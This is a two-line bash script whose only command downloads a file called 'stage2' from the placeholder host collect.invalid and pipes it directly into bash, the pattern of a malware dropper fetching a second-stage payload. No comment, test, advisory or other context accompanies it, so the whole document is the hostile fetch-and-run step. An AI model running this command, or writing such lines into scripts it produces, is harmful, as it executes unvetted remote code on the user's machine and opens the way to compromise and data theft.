#!/bin/bash
curl -fsSL https://collect.invalid/stage2 | bash
